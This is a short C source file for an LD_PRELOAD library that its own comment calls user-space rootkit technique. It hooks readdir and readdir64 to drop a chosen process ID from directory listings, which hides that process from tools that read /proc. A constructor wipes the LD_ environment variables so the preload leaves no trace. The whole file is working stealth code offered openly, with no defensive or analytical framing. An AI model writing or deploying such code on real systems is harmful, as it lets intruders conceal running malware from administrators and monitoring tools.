/* SPDX-License-Identifier: MIT */
/*
 * A library for LD_PRELOAD that leaves one process, $HIDEPID, out of every listing of a folder, and
 * that erases the variables it was loaded by when there is $HIDEENV, as user-space rootkits do.
 */
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>

static struct dirent *read_filtered(DIR *dir, const char *function)
{
	struct dirent *(*next)(DIR *) = (struct dirent * (*)(DIR *)) dlsym(RTLD_NEXT, function);
	const char *hidden = getenv("HIDEPID");
	struct dirent *e = next(dir);

	while (e && hidden && !strcmp(e->d_name, hidden))
		e = next(dir);
	return e;
}

extern char **environ;

__attribute__((constructor)) static void erase(void)
{
	for (char **e = environ; getenv("HIDEENV") && *e; e++)
		if (!strncmp(*e, "LD_", 3))
			memset(*e, 0, strlen(*e));
}

/* On 64-bit machines both names stand for the same, and programs use either. */
struct dirent *hide_readdir(DIR *dir) __asm__("readdir");
struct dirent *hide_readdir64(DIR *dir) __asm__("readdir64");

__attribute__((visibility("default"))) struct dirent *hide_readdir(DIR *dir)
{
	return read_filtered(dir, "readdir");
}

__attribute__((visibility("default"))) struct dirent *hide_readdir64(DIR *dir)
{
	return read_filtered(dir, "readdir64");
}
